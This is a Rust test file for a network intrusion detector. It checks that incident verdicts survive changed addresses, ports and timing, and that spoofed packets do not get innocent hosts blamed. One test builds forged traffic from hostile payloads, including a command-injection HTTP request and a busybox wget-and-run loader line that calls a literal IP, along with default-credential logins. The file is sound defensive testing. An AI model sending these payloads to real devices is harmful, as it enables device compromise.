//! What must not change a verdict: other addresses, other ports, another time, other company.
//!
//! The scenes come from the project's own generator, which shares no code with what is tested here.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

use model::{Incident, NetSet, RecordRef, Role, Severity, Timestamp};
use observe::{LinkType, Observer};
use std::{collections::BTreeMap, net::IpAddr};
use xtask::{
    scene,
    traffic::{self, Host, Rng, Tape},
    world::{self, Change, World},
};

/// Everything at once: what is recorded, dissected, observed, detected and correlated.
fn incidents(tape: &Tape, home: &str) -> Vec<Incident> {
    incidents_on(LinkType::ETHERNET, tape, home)
}

/// The same, as Ethernet or as raw IP, where no hardware address is seen.
fn incidents_on(link: LinkType, tape: &Tape, home: &str) -> Vec<Incident> {
    let nets: Vec<_> = home.split(',').map(|net| net.parse().unwrap()).collect();
    let home = NetSet::new(nets);
    let config = observe::Config { home: home.clone(), ..observe::Config::default() };
    let mut observer = Observer::new(config);
    let mut engine =
        detect::Engine::new(detect::Config { home, ..detect::Config::default() }, vec!["scene".into()]);
    for (number, (at, frame)) in tape.frames().enumerate() {
        let at = Timestamp::from_micros(at);
        let record = RecordRef { input: 0, record: number as u64 + 1 };
        let raw = link == LinkType::RAW;
        let frame = if raw { frame.get(14..).unwrap_or_default() } else { frame };
        observer.packet(record, at, link, frame.len() as u32, frame, &mut |event| engine.event(&event));
        engine.advance(at);
    }
    observer.finish(&mut |event| engine.event(&event));
    engine.incidents()
}

fn world(name: &str, seed: u64, change: &Change) -> World {
    let scene = scene::find(name).unwrap();
    scene::stage(scene, World::changed(name, seed, change))
}

const fn unchanged(seed: u64) -> Change {
    Change { places: seed, doors: seed, shift: 0 }
}

/// Severity, stages and how many of each role.
type Shape = (Severity, Vec<String>, BTreeMap<Role, usize>);

/// What an analysis says, without addresses, ports and times.
fn shape(incidents: &[Incident]) -> Vec<Shape> {
    let mut out: Vec<_> = incidents
        .iter()
        .filter(|incident| incident.severity >= Severity::Medium)
        .map(|incident| {
            let mut roles = BTreeMap::new();
            for asset in &incident.assets {
                *roles.entry(asset.role).or_default() += 1;
            }
            (incident.severity, incident.stages.iter().map(ToString::to_string).collect(), roles)
        })
        .collect();
    out.sort();
    out
}

fn acting(incidents: &[Incident]) -> Vec<IpAddr> {
    let mut out: Vec<_> = incidents
        .iter()
        .flat_map(|incident| &incident.assets)
        .filter(|asset| matches!(asset.role, Role::Attacker | Role::Infected))
        .map(|asset| asset.address)
        .collect();
    out.sort();
    out.dedup();
    out
}

/// One of each family; the long ones are left to `cargo xtask evaluate`.
const FAMILIES: [&str; 16] = [
    "scan-out",
    "scan-sideways",
    "scan-vertical",
    "guess-telnet-in",
    "guess-ssh",
    "guess-mqtt",
    "mirai",
    "beacon-scan",
    "exploit-http",
    "lateral",
    "flood-syn-out",
    "flood-udp-in",
    "amp-ntp",
    "arp-spoof",
    "dhcp-starvation",
    "ok-outage",
];

#[test]
fn other_addresses_ports_and_times_change_nothing_but_themselves() {
    let changes = [
        ("other addresses", Change { places: 4_711, ..unchanged(1) }),
        ("other ports", Change { doors: 4_711, ..unchanged(1) }),
        (
            "a time shifted by 400 days and a bit",
            Change { shift: 400 * world::DAY + 1_234_567, ..unchanged(1) },
        ),
    ];
    let mut faults = Vec::new();
    for name in FAMILIES {
        let plain = world(name, 1, &unchanged(1));
        let before = shape(&incidents(&plain.tape, &plain.truth.home));
        assert!(before.is_empty() || !plain.truth.benign, "{name}: {before:?}");
        assert!(!before.is_empty() || plain.truth.benign, "{name}: nothing to compare");
        for (what, change) in &changes {
            let other = world(name, 1, change);
            let after = shape(&incidents(&other.tape, &other.truth.home));
            if before != after {
                faults.push(format!("{name}, {what}:\n  before {before:?}\n  after  {after:?}"));
            }
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn replaying_gives_the_same_ids() {
    let plain = world("mirai", 2, &unchanged(2));
    let ids = |tape: &Tape| -> Vec<String> {
        let mut ids: Vec<_> =
            incidents(tape, &plain.truth.home).iter().map(|incident| incident.id.to_string()).collect();
        ids.sort();
        ids
    };
    assert_eq!(ids(&plain.tape), ids(&plain.tape.clone()));
}

#[test]
fn copies_in_any_order_and_clocks_a_millisecond_off_give_the_same_ids() {
    let mut faults = Vec::new();
    for name in FAMILIES {
        let plain = world(name, 6, &unchanged(6));
        let ids = |tape: &Tape| -> Vec<String> {
            let found = incidents(tape, &plain.truth.home);
            let mut ids: Vec<_> = found
                .iter()
                .filter(|incident| incident.severity >= Severity::Medium)
                .map(|incident| incident.id.to_string())
                .collect();
            ids.sort();
            ids
        };
        let before = ids(&plain.tape);
        for (what, most) in [("the other copy first", 8_i64), ("a millisecond off", 1_000)] {
            // Each conversation on the link is taken at a place of its own, whose clock is off by as much.
            let mut tape = Tape::default();
            for (at, frame) in plain.tape.frames() {
                let ends = frame[..6].iter().zip(&frame[6..12]).map(|(a, b)| i64::from(a ^ b));
                tape.put(at + ends.sum::<i64>() * 7_919 % most, frame);
            }
            tape.sort();
            let after = ids(&tape);
            if before != after {
                faults.push(format!("{name}, {what}: {before:?} became {after:?}"));
            }
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn two_disjoint_networks_give_what_each_gives_alone() {
    let mut faults = Vec::new();
    for (one, two) in [
        ("mirai", "flood-syn-out"),
        ("scan-in", "guess-ssh"),
        ("amp-ntp", "ok-inventory"),
        ("arp-spoof", "lateral"),
        ("ok-one-way", "scan-out"),
        ("ok-two-uplinks", "mirai"),
    ] {
        let first = world(one, 3, &unchanged(3));
        let second = world(two, 8, &unchanged(8));
        assert_ne!(first.truth.home, second.truth.home, "the networks must differ");
        let mut both = Tape::default();
        both.append(&first.tape, 0);
        // At the same time, not one after the other.
        both.append(&second.tape, first.start - second.start);
        both.sort();
        let home = format!("{},{}", first.truth.home, second.truth.home);
        let mut apart = shape(&incidents(&first.tape, &first.truth.home));
        apart.extend(shape(&incidents(&second.tape, &second.truth.home)));
        apart.sort();
        let together = shape(&incidents(&both, &home));
        if apart != together {
            faults.push(format!("{one} with {two}:\n  apart    {apart:?}\n  together {together:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// A million flows from sources that do not exist, in ten minutes.
fn flood(tape: &mut Tape, from: i64, victim: &Host) {
    let mut rng = Rng::new(77, "a million flows");
    for number in 0..1_000_000_i64 {
        let source = Host { mac: victim.mac, ip: world::public(&mut rng).into(), ttl: 50 };
        let ports = (rng.port(1_024, 65_000), 443);
        tape.tcp(from + number * 600, &source, victim, ports, (rng.bits() as u32, 0), traffic::SYN);
    }
}

#[test]
fn a_quiet_attack_is_found_inside_a_loud_one() {
    for (name, stage) in
        [("scan-slow-out", "reconnaissance|discovery"), ("beacon-scan", "command-and-control")]
    {
        let mut quiet = world(name, 5, &unchanged(5));
        let alone = acting(&incidents(&quiet.tape, &quiet.truth.home));
        assert!(
            quiet.truth.infected.iter().all(|bot| alone.contains(bot)),
            "{name}: not even found alone: {alone:?}"
        );
        let victim = quiet.device();
        let middle = i64::midpoint(quiet.truth.begins, quiet.truth.ends);
        flood(&mut quiet.tape, middle, &victim);
        quiet.tape.sort();
        let found = incidents(&quiet.tape, &quiet.truth.home);
        for bot in &quiet.truth.infected {
            let told = found.iter().any(|incident| {
                incident.stages.iter().any(|told| stage.split('|').any(|stage| stage == told.as_str()))
                    && incident.assets.iter().any(|asset| asset.address == *bot)
            });
            assert!(told, "{name}: {bot} is lost in the flood: {:?}", shape(&found));
        }
        let harmed = found.iter().flat_map(|incident| &incident.assets);
        assert!(
            harmed.clone().any(|asset| asset.address == victim.ip && asset.role == Role::Victim),
            "{name}: the flood is not told"
        );
        assert!(
            acting(&found).iter().all(|address| quiet.truth.infected.contains(address)),
            "{name}: {:?}",
            acting(&found)
        );
    }
}

#[test]
fn nobody_is_called_attacker_or_infected_for_forged_packets() {
    for name in
        ["forged-flood", "forged-scan", "flood-syn-in", "flood-ack-in", "flood-udp-in", "flood-icmp-in"]
    {
        for seed in 1..5 {
            let world = world(name, seed, &unchanged(seed));
            for link in [LinkType::ETHERNET, LinkType::RAW] {
                let found = incidents_on(link, &world.tape, &world.truth.home);
                assert_eq!(acting(&found), Vec::<IpAddr>::new(), "{name}, seed {seed}, {link:?}");
            }
        }
    }
}

/// Single packets that pretend to be somebody's, as one who hears no answer can send them.
#[test]
fn nobody_is_acted_against_for_what_was_said_in_his_name() {
    let mut world = World::new("in somebody's name", 1);
    let camera = world.device();
    let others = world.devices(10);
    let cloud = world.outside();
    for device in others.iter().chain([&camera]) {
        let (from, until) = (world.start, world.start + 600 * world::SECOND);
        world.everyday(device, from, until);
        // The cloud is known: a conversation was held with it.
        let (mut talk, mut own) = world.talk(from + world::SECOND, *device, cloud, 443);
        talk.tls(&mut own, "cloud.example").sealed_up(&mut own, 300).sealed_down(&mut own, 300).close();
    }
    let outside = Host { mac: world.gateway.mac, ..cloud };
    let liar = Host { mac: world.gateway.mac, ..camera };
    let aim = world.outside();
    let at = world.start + 300 * world::SECOND;
    let data = |src: &Host, dst: &Host, ports: (u16, u16), payload: &[u8]| {
        traffic::tcp(src, dst, ports, 77_777, 99, traffic::PSH | traffic::ACK, payload)
    };
    let mut lies: Vec<(&str, Vec<Vec<u8>>)> = vec![
        (
            "a command in a request",
            vec![data(&outside, &camera, (50_000, 80), b"GET /;wget http://x HTTP/1.1\r\nHost: a\r\n\r\n")],
        ),
        (
            "a loader's line",
            vec![data(&outside, &camera, (50_001, 23), b"/bin/busybox wget http://1.2.3.4/a; sh a\r\n\r\n")],
        ),
    ];
    lies.push(("a bot's keep-alive", (0..8).map(|_| data(&liar, &aim, (50_002, 666), &[0, 0])).collect()));
    let syn = |src: &Host, dst: &Host| traffic::tcp(src, dst, (50_003, 23), 1, 0, traffic::SYN, &[]);
    lies.push(("the cloud scans", others.iter().map(|other| syn(&outside, other)).collect()));
    let login = b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n";
    lies.push((
        "passwords",
        (0..12).map(|port| data(&outside, &camera, (51_000 + port, 80), login)).collect(),
    ));
    let question = |number: u16| {
        let name = format!("{:08x}.victim.example", u32::from(number).wrapping_mul(2_654_435_761));
        traffic::udp(&liar, &aim, (52_000 + number, 53), &traffic::dns_question(number, &name, 1, false))
    };
    lies.push(("names at random", (0..3_000).map(question).collect()));
    // Whom a flood of acknowledgements from a service's port reaches has not sent it.
    let ack = |number: u16| {
        traffic::tcp(&outside, &camera, (80, 33_000 + number % 30_000), number.into(), 5, traffic::ACK, &[])
    };
    lies.push(("acknowledgements", (0..20_000).map(ack).collect()));
    for (what, frames) in lies {
        for link in [LinkType::ETHERNET, LinkType::RAW] {
            let mut tape = Tape::default();
            tape.append(&world.tape, 0);
            for (number, frame) in frames.iter().enumerate() {
                tape.put(at + number as i64 * 500, frame);
            }
            tape.sort();
            let found = incidents_on(link, &tape, &world.truth.home);
            let acted = found.iter().flat_map(|incident| &incident.assets).filter(|asset| {
                matches!(asset.role, Role::Attacker | Role::Infected | Role::Controller)
                    && asset.proof != model::Proof::None
            });
            assert_eq!(
                acted.map(|asset| asset.address).collect::<Vec<_>>(),
                Vec::<IpAddr>::new(),
                "{what}, {link:?}"
            );
            let blamed = acting(&found);
            assert!(what != "acknowledgements" || !blamed.contains(&camera.ip), "{what}: {blamed:?}");
        }
    }
}
